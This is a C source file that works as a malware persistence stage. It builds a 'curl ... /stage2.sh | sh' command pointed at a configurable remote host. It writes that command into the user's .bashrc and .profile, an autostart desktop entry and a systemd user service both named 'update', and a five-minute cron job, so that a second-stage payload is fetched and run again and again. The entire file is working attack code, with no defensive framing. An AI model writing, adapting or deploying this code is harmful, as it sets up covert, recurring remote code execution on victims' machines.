/* shell-rc: make the next login, desktop session, user manager or cron tick
 * fetch and run stage 2. */
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>

#include "targets.h"

static void append(const char *home, const char *name, const char *text)
{
	char path[1400];
	FILE *f;

	snprintf(path, sizeof(path), "%s/%s", home, name);
	if (!(f = fopen(path, "a"))) {
		perror(path);
		return;
	}
	fputs(text, f);
	fclose(f);
}

static void persist(const char *home, const char *cmd)
{
	static const char *const dirs[] = {".config", ".config/autostart",
	                                   ".config/systemd",
	                                   ".config/systemd/user", ".cron"};
	char text[600], dir[1400];

	for (size_t i = 0; i < sizeof(dirs) / sizeof(dirs[0]); i++) {
		snprintf(dir, sizeof(dir), "%s/%s", home, dirs[i]);
		mkdir(dir, 0755);
	}
	snprintf(text, sizeof(text), "%s\n", cmd);
	append(home, ".bashrc", text);
	append(home, ".profile", text);
	snprintf(text, sizeof(text),
	         "[Desktop Entry]\nType=Application\nName=update\nExec=sh -c "
	         "\"%s\"\n",
	         cmd);
	append(home, ".config/autostart/update.desktop", text);
	snprintf(text, sizeof(text),
	         "[Service]\nExecStart=/bin/sh -c "
	         "\"%s\"\n[Install]\nWantedBy=default.target\n",
	         cmd);
	append(home, ".config/systemd/user/update.service", text);
	snprintf(text, sizeof(text), "*/5 * * * * %s\n", cmd);
	append(home, ".cron/crontab", text);
}

int main(int argc, char **argv)
{
	const char *home = getenv("HOME");
	char cmd[200];

	targets_load(argc, argv);
	snprintf(cmd, sizeof(cmd), "curl -s http://%s:%s/stage2.sh | sh",
	         target("T_TCP_HOST"), target("T_TCP_PORT"));
	if (home)
		persist(home, cmd);
	persist(target("T_HOME"), cmd);
	return 0;
}
